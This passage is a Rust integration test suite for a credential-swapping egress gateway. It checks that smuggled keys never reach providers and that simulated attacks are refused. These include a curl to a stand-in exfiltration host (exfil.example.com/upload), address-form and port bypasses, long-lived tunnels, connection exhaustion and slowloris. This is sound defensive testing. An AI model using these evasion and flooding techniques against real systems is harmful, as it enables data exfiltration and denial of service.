//! The whole gateway: `keyswap dev` runs Envoy with the generated config (CONNECT proxy, TLS
//! terminated with the gateway CA's leaf, ext_proc fail closed) in front of TLS fake providers.
//! Agents are curl and the official Python SDKs, configured only by the printed environment.

mod common;

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use common::dev::*;
use common::*;

fn assert_only_real_keys(fake: &FakeProvider) {
    for s in fake.seen() {
        let all = s.everything();
        assert!(!all.contains(PLACEHOLDER), "placeholder reached the provider: {all}");
        assert!(!all.contains(STOLEN), "agent credential reached the provider: {all}");
        match s.host.as_str() {
            "api.anthropic.com" => {
                assert_eq!(s.header_str("x-api-key").as_deref(), Some(ANTHROPIC_KEY), "{all}");
                assert_eq!(s.header_str("authorization"), None, "{all}");
            }
            "api.openai.com" => {
                assert_eq!(s.header_str("authorization"), Some(format!("Bearer {ANTHROPIC_KEY}")), "{all}");
                assert_eq!(s.header_str("x-api-key"), None, "{all}");
            }
            other => panic!("unexpected host {other}: {all}"),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_and_official_sdks_reach_providers_with_only_the_real_key() {
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let proxy_port = free_port();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", proxy_port, "")).unwrap();
    let (fake, provider_ca) = FakeProvider::start_tls(&["api.anthropic.com", "api.openai.com"], work.path()).await;
    fake.set_accepts("api.openai.com", vec![Accept::Header("authorization", format!("Bearer {ANTHROPIC_KEY}"))]);
    let ca = provider_ca.display();
    let upstreams =
        [format!("api.anthropic.com={},ca={ca}", fake.addr), format!("api.openai.com={},ca={ca}", fake.addr)];
    let dev = tokio::task::block_in_place(|| start_dev(config.path(), work.path(), &upstreams));
    assert_eq!(dev.env["HTTPS_PROXY"], format!("http://127.0.0.1:{proxy_port}"));

    // curl with the placeholder, and with smuggled credentials.
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}"#;
    let (code, out, err) = curl(
        &dev,
        &[
            "-w",
            "\n%{http_code}",
            "-H",
            "x-api-key: keyswap-injected-by-proxy",
            "-H",
            "content-type: application/json",
            "-d",
            body,
            "https://api.anthropic.com/v1/messages",
        ],
    );
    assert_eq!(code, 0, "{err}\n{}", dev.proc.output());
    assert!(out.ends_with("\n200") && out.contains("Hello from the fake provider"), "{out}");
    let (code, out, err) = curl(
        &dev,
        &[
            "-w",
            "\n%{http_code}",
            "-H",
            "Authorization: Bearer sk-stolen-by-agent-9999",
            "-H",
            "X-Api-Key: sk-stolen-by-agent-9999",
            "-d",
            "{}",
            "https://api.openai.com/v1/chat/completions",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.ends_with("\n200"), "{out}");

    // The official SDKs, non-streaming and streaming (SSE), with placeholder keys.
    for provider in ["anthropic", "openai"] {
        for mode in ["plain", "stream"] {
            let out = tokio::task::block_in_place(|| sdk(&dev, provider, mode));
            assert_eq!(out.trim(), format!("{provider} {mode}: Hello from the fake provider (output tokens: 7)"));
        }
    }
    let seen = fake.seen().len();
    assert_eq!(seen, 6, "two curl calls and four SDK calls");
    assert_only_real_keys(&fake);

    // CONNECT to a host without a route on a deny-all gateway is refused.
    let (code, _, err) = curl(&dev, &["https://exfil.example.com/upload"]);
    assert_ne!(code, 0);
    assert!(err.contains("403"), "CONNECT refused with 403: {err}");
    // Plain HTTP through the proxy never reaches a provider, placeholder or not.
    let (_, out, _) = curl(
        &dev,
        &["-w", "\n%{http_code}", "-H", "x-api-key: keyswap-injected-by-proxy", "http://api.anthropic.com/v1/messages"],
    );
    assert!(out.ends_with("\n403"), "plain HTTP refused: {out}");
    assert_eq!(fake.seen().len(), seen, "refused requests reached the upstream");

    // No private key material in keyswap's output.
    let logs = dev.proc.output() + &std::fs::read_to_string(dev.work.join("dev.stdout")).unwrap();
    // The leaf's key lives in keyswap's memory only (Envoy gets it over ADS).
    assert!(!dev.work.join("leaf.key").exists(), "the leaf key was written to disk");
    for key_file in ["ca.key"] {
        let pem = std::fs::read_to_string(dev.work.join(key_file)).unwrap();
        let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
        assert!(body.len() > 40);
        for line in pem.lines().filter(|l| !l.starts_with("-----")) {
            assert!(!logs.contains(line), "{key_file} content in keyswap's output");
        }
    }
    assert!(!logs.contains(ANTHROPIC_KEY), "secret in keyswap's output");

    // Ctrl-C (SIGTERM) stops keyswap and Envoy.
    let mut dev = dev;
    let status = tokio::task::block_in_place(|| dev.proc.terminate());
    assert!(status.success(), "keyswap dev exit: {status}\n{}", dev.proc.output());
    assert!(std::net::TcpStream::connect(("127.0.0.1", proxy_port)).is_err(), "Envoy still listening after stop");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_all_gateway_tunnels_unrouted_hosts_and_deny_all_refuses_them() {
    let other = FakeProvider::start().await; // an unrouted service on loopback
    let target = format!("http://{}/ping", other.addr);
    for (policy, allow, tunnelled) in
        [("allow-all", "", true), ("deny-all", "", false), ("deny-all", "\"127.0.0.1:*\"", true)]
    {
        let work = tempfile::tempdir().unwrap();
        let config = tempfile::tempdir().unwrap();
        let port = free_port();
        std::fs::write(config.path().join("gateway.yaml"), gateway_config(policy, port, allow)).unwrap();
        // The unrouted service is on loopback: only reachable when the operator opens it.
        let args = ["dev", "--allow-private-destination", "127.0.0.1/32"];
        let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &args));
        let before = other.seen().len();
        // -p: tunnel plain HTTP through CONNECT, as HTTPS clients do.
        let (code, out, err) = curl(&dev, &["-p", "-w", "%{http_code}", "-o", "/dev/null", &target]);
        if tunnelled {
            assert_eq!(code, 0, "{policy} allow=[{allow}]: {err}\n{}", dev.proc.output());
            assert_eq!(out, "401", "the unrouted service answered through the tunnel");
            assert_eq!(other.seen().len(), before + 1);
        } else {
            assert_ne!(code, 0, "{policy}: tunnel must be refused");
            assert!(err.contains("403"), "{err}");
            assert_eq!(other.seen().len(), before);
        }
    }
}

/// The attack: a private range an operator opened for one internal service, reached through
/// another name or its address on an allow-all gateway. Opened for one host
/// (`--allow-private-destination HOST=CIDR`), it takes tunnels to that host only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_private_range_opened_for_one_host_is_reached_through_no_other_name() {
    let internal = FakeProvider::start().await; // the internal service, on loopback
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("allow-all", free_port(), "")).unwrap();
    let args = ["dev", "--allow-private-destination", "localhost=127.0.0.1/32"];
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &args));
    let through = |host: &str| {
        let target = format!("http://{host}:{}/ping", internal.addr.port());
        tokio::task::block_in_place(|| curl(&dev, &["-p", "-w", "%{http_code}", "-o", "/dev/null", &target]))
    };
    let (code, out, err) = through("localhost");
    assert_eq!((code, out.as_str()), (0, "401"), "the host the range was opened for: {err}\n{}", dev.proc.output());
    let seen = internal.seen().len();
    let (code, _, err) = through("127.0.0.1");
    assert_ne!(code, 0, "the range's address, named directly, was tunnelled");
    assert!(err.contains("403"), "{err}");
    assert_eq!(internal.seen().len(), seen, "the service was reached through another name");
    let log = dev.proc.output();
    assert!(log.contains("localhost=127.0.0.1/32"), "the opened ranges are logged: {log}");
}

/// Envoy's log in `keyswap dev` shows the headers it sends upstream, the real key among them, at
/// debug level, which any local process can turn on through Envoy's admin interface on loopback:
/// the log is its owner's alone, also when an earlier run left one readable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn envoys_log_in_dev_is_readable_by_its_owner_alone() {
    use std::os::unix::fs::PermissionsExt as _;
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", free_port(), "")).unwrap();
    let log = work.path().join("envoy.log");
    std::fs::write(&log, "an earlier run\n").unwrap();
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o644)).unwrap();
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &["dev"]));
    let mode = std::fs::metadata(&log).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "envoy.log mode {mode:o}\n{}", dev.proc.output());
}

/// An `allow` entry for one host a routed `*.` pattern covers (`x.openai.azure.com` under an
/// Azure route's `*.openai.azure.com`) became an exact domain of the tunnelled virtual host, which
/// Envoy matches before any wildcard: the CONNECT went out as a raw tunnel, taking the host out
/// of routing (no credential written, no budget, no span). Routing wins: the CONNECT is
/// terminated with the gateway's leaf, as for any host of the route, and `check` says the entry
/// changes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allow_entry_under_a_routed_wildcard_does_not_turn_the_host_into_a_raw_tunnel() {
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let azure = "---\napiVersion: keyswap.dev/v1alpha1\nkind: AIProviderRoute\nmetadata: {name: azure}\nspec:\n  parentRefs: [{name: egress}]\n  rules: [{matches: [{provider: azure-openai, hosts: ['*.openai.azure.com']}]}]\n";
    let gateway = gateway_config("deny-all", free_port(), "x.openai.azure.com") + azure;
    std::fs::write(config.path().join("gateway.yaml"), gateway).unwrap();
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &["dev"]));
    let tls = try_tunnel_tls(&dev, "x.openai.azure.com", b"http/1.1").await;
    assert!(tls.is_ok(), "the CONNECT was not terminated by the gateway: {:?}\n{}", tls.err(), dev.proc.output());
    let log = dev.proc.output();
    assert!(log.contains("spec.allow entry names a routed host") && log.contains("x.openai.azure.com"), "{log}");
}

/// The attack: an `allow` entry meant HTTPS to one host, and the tunnel went to any port of it:
/// `CONNECT github.com:22`, or a database or admin port behind the same name. A bare host now
/// opens 443 alone, `host:PORT` that port, `host:*` any; a CONNECT to another port is refused
/// (403 `egress_port_denied`) before it is resolved, and an edit of the list applies at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tunnel_to_another_port_of_an_allowed_host_is_refused() {
    let (allowed, other) = (FakeProvider::start().await, FakeProvider::start().await);
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let proxy_port = free_port();
    let write = |allow: &str| {
        std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", proxy_port, allow)).unwrap()
    };
    write(&format!("\"127.0.0.1:{}\"", allowed.addr.port()));
    let args = ["dev", "--allow-private-destination", "127.0.0.1/32"];
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &args));
    let proxy = dev.env["HTTPS_PROXY"].trim_start_matches("http://").to_owned();
    let through = |svc: &FakeProvider| {
        let target = format!("http://{}/ping", svc.addr);
        tokio::task::block_in_place(|| curl(&dev, &["-p", "-w", "%{http_code}", "-o", "/dev/null", &target]))
    };
    let (code, out, err) = through(&allowed);
    assert_eq!((code, out.as_str()), (0, "401"), "the allowed port: {err}\n{}", dev.proc.output());
    let answer = connect_answer(&proxy, &other.addr.to_string()).await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("egress_port_denied"), "{answer}");
    let answer = connect_answer(&proxy, "127.0.0.1:22").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("egress_port_denied"), "{answer}");
    assert_eq!(other.seen().len(), 0, "a tunnel to a port the list does not name reached it");
    // A bare host is 443 alone: the port that was open is refused once the edit is read.
    write("\"127.0.0.1\"");
    let mut answer = String::new();
    for _ in 0..100 {
        answer = connect_answer(&proxy, &allowed.addr.to_string()).await;
        if answer.contains("egress_port_denied") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("egress_port_denied"), "{answer}");
    // `host:*`: every port.
    write("\"127.0.0.1:*\"");
    for _ in 0..100 {
        if connect_answer(&proxy, &other.addr.to_string()).await.starts_with("HTTP/1.1 200") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (code, out, err) = through(&other);
    assert_eq!((code, out.as_str()), (0, "401"), "host:* opens every port: {err}");
}

/// The attack: the cluster's own addresses can be public (nodes' external IPs, a public IPv6
/// pod range), and the tunnel guard knows only what is private everywhere: on an allow-all
/// gateway an agent tunnels to them, in any of their forms. `--deny-destination` closes such a
/// range, over `--allow-private-destination` and in its IPv6 forms (here on loopback, the only
/// addresses a test may use: 127.0.0.0/8 opened, 127.0.0.2 closed).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tunnel_to_a_range_the_operator_closed_is_refused_in_every_form() {
    let open = FakeProvider::start().await;
    let closed = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
    let closed_port = closed.local_addr().unwrap().port();
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("allow-all", free_port(), "")).unwrap();
    let args = [
        "dev",
        "--allow-private-destination",
        "127.0.0.0/8",
        "--deny-destination",
        "127.0.0.2/32",
        "--nat64-prefix",
        "2600:1f14:64::/96",
    ];
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &args));
    let proxy = dev.env["HTTPS_PROXY"].trim_start_matches("http://").to_owned();
    let answer = connect_answer(&proxy, &open.addr.to_string()).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "the opened range: {answer}\n{}", dev.proc.output());
    // Through the cluster's NAT64 prefix too (a public-looking IPv6 address embedding it).
    let forms = ["127.0.0.2", "[::ffff:127.0.0.2]", "[2600:1f14:64::127.0.0.2]"];
    for target in forms.map(|f| format!("{f}:{closed_port}")) {
        let answer = connect_answer(&proxy, &target).await;
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("denied_destination"), "{target}: {answer}");
    }
    // A private address behind the NAT64 prefix is private.
    let answer = connect_answer(&proxy, "[2600:1f14:64::10.0.0.1]:443").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("private_destination"), "{answer}");
    let accepted = tokio::time::timeout(Duration::from_millis(300), closed.accept()).await;
    assert!(accepted.is_err(), "a tunnel reached the closed address");
    // The log says which ranges are opened and closed.
    let log = dev.proc.output();
    assert!(
        log.contains("closed=127.0.0.2/32")
            && log.contains("opened=127.0.0.0/8")
            && log.contains("nat64=2600:1f14:64::/96"),
        "{log}"
    );
}

/// The attack: open a tunnel while its host is allowed and keep it. Envoy never closes an open
/// tunnel when the route that let it open changes, so a host taken off `spec.allow` stayed
/// reachable through it for as long as the agent kept it alive. `--tunnel-max-duration` closes
/// every raw tunnel that long after it opened (an hour by default; 3 s here).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tunnel_kept_open_after_its_host_left_the_allow_list_is_closed_at_its_max_duration() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let echo = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let echo_addr = echo.local_addr().unwrap().to_string();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = echo.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 64];
                while let Ok(n @ 1..) = s.read(&mut buf).await {
                    let _ = s.write_all(&buf[..n]).await;
                }
            });
        }
    });
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let proxy_port = free_port();
    let write = |allow: &str| {
        std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", proxy_port, allow)).unwrap()
    };
    write("\"127.0.0.1:*\"");
    let args = ["dev", "--allow-private-destination", "127.0.0.1/32", "--tunnel-max-duration", "3s"];
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &args));
    let proxy = dev.env["HTTPS_PROXY"].trim_start_matches("http://").to_owned();
    let mut tunnel = tokio::net::TcpStream::connect(&proxy).await.unwrap();
    tunnel.write_all(format!("CONNECT {echo_addr} HTTP/1.1\r\nHost: {echo_addr}\r\n\r\n").as_bytes()).await.unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8];
        assert_eq!(tunnel.read(&mut byte).await.unwrap(), 1, "{}", String::from_utf8_lossy(&head));
        head.push(byte[0]);
    }
    assert!(head.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&head));
    let opened = std::time::Instant::now();
    let ping = async |t: &mut tokio::net::TcpStream| {
        t.write_all(b"ping").await.ok()?;
        let mut buf = [0u8; 4];
        tokio::time::timeout(Duration::from_secs(2), t.read_exact(&mut buf)).await.ok()?.ok()?;
        Some(buf)
    };
    assert_eq!(ping(&mut tunnel).await, Some(*b"ping"), "the tunnel carries bytes");
    // The host leaves the allow list: new tunnels are refused at once ...
    write("");
    let mut refused = String::new();
    for _ in 0..50 {
        refused = connect_answer(&proxy, &echo_addr).await;
        if refused.starts_with("HTTP/1.1 403") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    // ... and the one kept open is closed at its max duration, not later.
    let closed = loop {
        let elapsed = opened.elapsed();
        if ping(&mut tunnel).await.is_none() {
            break elapsed;
        }
        assert!(elapsed < Duration::from_secs(8), "the tunnel outlived its max duration: open after {elapsed:?}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert!(closed >= Duration::from_millis(2500), "closed after {closed:?}, before its max duration");
}

/// Envoy's answer to `CONNECT target` on the proxy at `proxy`: the status line, headers and the
/// body of a refusal (up to its end or 2 s).
async fn connect_answer(proxy: &str, target: &str) -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let mut c = tokio::net::TcpStream::connect(proxy).await.unwrap();
    c.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    let read = async {
        loop {
            match c.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
            }
            // A tunnel's head is all there is until the service speaks.
            if answer.starts_with(b"HTTP/1.1 200") && answer.ends_with(b"\r\n\r\n") {
                break;
            }
        }
    };
    let _ = tokio::time::timeout(Duration::from_secs(2), read).await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// The attack: on a gateway that admits agents by token (`agentAuth`), a CONNECT to an allowed
/// host with no token, a wrong one or the placeholder. keyswap never sees what a tunnel carries,
/// so the CONNECT is where admission happens; before, any pod that reached the proxy got the
/// tunnel without a token. The agent gives its token to the proxy, as the password of
/// `HTTPS_PROXY` (`Proxy-Authorization: Basic`) or as a bearer token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tunnel_on_a_gateway_with_agent_auth_needs_the_agents_token() {
    const TOKEN: &str = "ci-gateway-token-0001";
    let other = FakeProvider::start().await; // an unrouted service on loopback
    let target = format!("http://{}/ping", other.addr);
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    // An API-key agent of tenant-a, under a validator that may name only `partner-*` tenants.
    const OUT_OF_SCOPE: &str = "ksa_tenant-a-agent-0002";
    let auth = "  agentAuth:\n    validators:\n    - sharedToken: {secretRef: {name: ci-token}, agent: ci-bot}\n    - {apiKeys: {}, tenants: ['partner-*']}\n";
    let gateway = gateway_config("deny-all", free_port(), "\"127.0.0.1:*\"")
        .replace("  defaultPolicy: deny-all\n", &format!("  defaultPolicy: deny-all\n{auth}"));
    let digest: String = ring::digest::digest(&ring::digest::SHA256, OUT_OF_SCOPE.as_bytes())
        .as_ref()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let agent_key = format!(
        "apiVersion: v1\nkind: Secret\nmetadata: {{name: a1, labels: {{keyswap.dev/agent-token: \"true\"}}}}\nstringData: {{sha256: \"{digest}\", agent: a1, tenant: tenant-a}}\n"
    );
    let manifests = format!("{gateway}\n---\n{}---\n{agent_key}", secret_manifest("ci-token", "token", TOKEN));
    std::fs::write(config.path().join("gateway.yaml"), manifests).unwrap();
    let (collector, collector_addr) = otlp::Receiver::start().await;
    let endpoint = format!("http://{collector_addr}");
    let env = [("OTEL_EXPORTER_OTLP_ENDPOINT", endpoint.as_str()), ("OTEL_EXPORTER_OTLP_PROTOCOL", "grpc")];
    let args = ["dev", "--allow-private-destination", "127.0.0.1/32"];
    let dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &env, &args));
    let tunnel = |extra: &[&str]| {
        let mut args = vec!["-p", "-w", "%{http_code}", "-o", "/dev/null"];
        args.extend_from_slice(extra);
        args.push(&target);
        tokio::task::block_in_place(|| curl(&dev, &args))
    };
    let placeholder = format!("ci:{PLACEHOLDER}");
    // A live secret of the gateway (a provider key) given as the proxy password: refused, and
    // never written into the refusal's span or a log.
    let provider_key = format!("ci:{ANTHROPIC_KEY}");
    let refusals =
        [&[][..], &["--proxy-user", "ci:wrong"], &["--proxy-user", &placeholder], &["--proxy-user", &provider_key]];
    for refused in refusals {
        let (code, _, err) = tunnel(refused);
        assert_ne!(code, 0, "{refused:?}: the tunnel was opened");
        assert!(err.contains("407"), "{refused:?}: {err}");
        assert!(!err.contains(TOKEN));
    }
    // An agent its validator may not give its tenant: 403, not a 407 asking for credentials.
    let (code, _, err) = tunnel(&["--proxy-user", &format!("a1:{OUT_OF_SCOPE}")]);
    assert!(code != 0 && err.contains("403"), "{err}");
    assert_eq!(other.seen().len(), 0, "a refused tunnel reached the service");
    let bearer = format!("Proxy-Authorization: Bearer {TOKEN}");
    for admitted in [&["--proxy-user", &format!("ci:{TOKEN}")][..], &["--proxy-header", &bearer]] {
        let (code, out, err) = tunnel(admitted);
        assert_eq!((code, out.as_str()), (0, "401"), "{admitted:?}: the service answers through the tunnel: {err}");
    }
    assert_eq!(other.seen().len(), 2);
    // What the service got never carries the token: Envoy ends the CONNECT, not the tunnel.
    assert!(other.seen().iter().all(|s| !s.everything().contains(TOKEN)), "{:?}", other.seen());
    // Each refusal is a span (CONNECT, 407, why); no token, plain or as the header carried it.
    let spans = collector.wait_for(refusals.len() + 1).await;
    let connects: Vec<_> = spans.iter().map(|(_, s)| s).filter(|s| s.name.starts_with("CONNECT")).collect();
    assert_eq!(connects.len(), refusals.len() + 1, "{connects:#?}");
    let statuses: Vec<_> = connects.iter().map(|s| otlp::i(&s.attributes, "http.response.status_code")).collect();
    assert_eq!(statuses.iter().filter(|s| **s == Some(407)).count(), refusals.len(), "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == Some(403)).count(), 1, "{statuses:?}");
    let raw: Vec<u8> = collector.raw.lock().unwrap().concat();
    let log = dev.proc.output();
    for secret in [TOKEN, ANTHROPIC_KEY] {
        for form in [secret.to_owned(), b64(format!("ci:{secret}").as_bytes())] {
            assert!(!contains_bytes(&raw, form.as_bytes()), "a span carries {form}");
            assert!(!log.contains(&form), "the log carries {form}");
        }
    }
}

fn contains_bytes(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// The attack: one agent holds 1,030 tunnels open, or 1,030 CONNECTs to a provider. Each holds a
/// connection of a cluster (the tunnel's, or the one to the internal TLS listener), and Envoy
/// allows a cluster 1,024 by default: the 1,025th, any agent's, waited for as long as the agent
/// held them. Every generated cluster allows 65,536.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_agent_holding_a_thousand_tunnels_does_not_take_every_agents_next_one() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    // A service on loopback that takes connections and holds them.
    let service = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let held_by_service = service.local_addr().unwrap().to_string();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = service.accept().await {
            held.push(s);
        }
    });
    let other = FakeProvider::start().await; // another agent's destination
    let work = tempfile::tempdir().unwrap();
    let args = ["dev", "--allow-private-destination", "127.0.0.1/32"];
    let (dev, _fake) = openai_dev(work.path(), "\"127.0.0.1:*\"", "", &args).await;
    let proxy = dev.env["HTTPS_PROXY"].trim_start_matches("http://").to_owned();
    let mut held = Vec::new();
    for target in [held_by_service.as_str(), "api.openai.com:443"] {
        for n in 0..1030 {
            let mut c = tokio::net::TcpStream::connect(&proxy).await.unwrap();
            c.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes()).await.unwrap();
            let mut answer = Vec::new();
            let read = async {
                while !answer.ends_with(b"\r\n\r\n") {
                    let mut byte = [0u8];
                    assert_eq!(
                        c.read(&mut byte).await.unwrap(),
                        1,
                        "{target} {n}: {}",
                        String::from_utf8_lossy(&answer)
                    );
                    answer.push(byte[0]);
                }
            };
            // Past a cluster's limit a CONNECT waits, pending, for one to end.
            assert!(
                tokio::time::timeout(Duration::from_secs(10), read).await.is_ok(),
                "{target} {n} was never answered"
            );
            assert!(answer.starts_with(b"HTTP/1.1 200"), "{target} {n}: {}", String::from_utf8_lossy(&answer));
            held.push(c);
        }
    }
    let (code, out, err) = tokio::task::block_in_place(|| {
        curl(&dev, &["-p", "-w", "%{http_code}", "-o", "/dev/null", &format!("http://{}/ping", other.addr)])
    });
    assert_eq!((code, out.as_str()), (0, "401"), "another agent's tunnel: {err}");
    let (code, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "another agent's provider request: {code} {out} {err}");
    for cluster in ["keyswap_tunnel", "keyswap_tls_terminate"] {
        assert_eq!(envoy_stat(work.path(), &format!("cluster.{cluster}.upstream_cx_overflow")).await, 0);
    }
}

/// The attack: connections that send half a request and stop (slowloris), each holding a slot of
/// Envoy's for as long as Envoy waits. The generated listeners give headers 10 s.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_whose_headers_never_finish_is_cut_off() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let work = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let port = free_port();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", port, "")).unwrap();
    let _dev = tokio::task::block_in_place(|| start_dev_with(config.path(), work.path(), &[], &[], &["dev"]));
    let mut half = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    half.write_all(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n").await.unwrap();
    let started = std::time::Instant::now();
    let mut answer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(30), half.read_to_end(&mut answer)).await;
    assert!(read.is_ok(), "Envoy still waits for the headers after 30 s");
    let waited = started.elapsed();
    assert!(waited >= Duration::from_secs(9), "cut off after {waited:?}: {}", String::from_utf8_lossy(&answer));
    assert!(String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 408"), "{}", String::from_utf8_lossy(&answer));
}

#[test]
fn static_and_ads_bootstraps_pass_envoy_validate() {
    let examples = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/manifests/examples"));
    let pair = tempfile::tempdir().unwrap();
    let azure = "---\napiVersion: keyswap.dev/v1alpha1\nkind: AIProviderRoute\nmetadata: {name: azure}\nspec:\n  parentRefs: [{name: egress}]\n  rules: [{matches: [{provider: azure-openai}, {provider: bedrock}]}]\n";
    let mut dirs = vec![examples];
    for (name, policy, allow) in [("deny", "deny-all", "\"pypi.org\", \"*.github.com\""), ("allow", "allow-all", "")] {
        let d = pair.path().join(name);
        std::fs::create_dir(&d).unwrap();
        let text = gateway_config(policy, 10000, allow).replace(
            "listeners: [{name: proxy, protocol: CONNECT, port: 10000}]",
            "listeners: [{name: proxy, protocol: CONNECT, port: 10000}, {name: tls, protocol: HTTPS, port: 10443, tls: {mode: Terminate}}]",
        ) + azure;
        std::fs::write(d.join("gateway.yaml"), text).unwrap();
        dirs.push(d);
    }
    // The static bootstrap (every resource inline) and the ADS one; what ADS serves is checked
    // through a running Envoy in tests/control_plane.rs.
    for (dir, delivery) in dirs.iter().flat_map(|d| [(d, "--static"), (d, "--static-observed"), (d, "ads")]) {
        let work = tempfile::tempdir().unwrap();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_keyswap"));
        cmd.arg("envoy-config").arg("--config").arg(dir).arg("--uds").arg(work.path().join("k.sock"));
        cmd.env_remove("OTEL_EXPORTER_OTLP_ENDPOINT");
        if delivery != "ads" {
            // Tracing on, from the environment: every routed host gets the body-streaming
            // deciding filter, or with --observe-response-bodies the observing one.
            cmd.arg("--static").arg("--certs").arg(work.path().join("certs"));
            cmd.env("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318");
        }
        if delivery == "--static-observed" {
            cmd.arg("--observe-response-bodies");
        }
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{} {delivery}: {}", dir.display(), String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(text.contains("dynamic_resources"), delivery == "ads", "{text}");
        let observed = delivery == "--static-observed";
        assert_eq!(text.contains("x-keyswap-observed"), observed, "observing filter on routes: {text}");
        let parsed: serde_json::Value = serde_yaml_ng::from_slice(&out.stdout).unwrap();
        let streams_bodies = static_vhosts(&parsed).any(|vh| deciding_filters(vh).0 == [keyswap::envoy::BODIES_FILTER]);
        assert_eq!(streams_bodies, delivery == "--static", "body-streaming filter on routes: {text}");
        let cfg = work.path().join("envoy.yaml");
        std::fs::write(&cfg, &out.stdout).unwrap();
        let v = Command::new(envoy_bin()).args(["--mode", "validate", "-c"]).arg(&cfg).output().unwrap();
        assert!(
            v.status.success(),
            "{} {delivery} does not validate:\n{}\n{}",
            dir.display(),
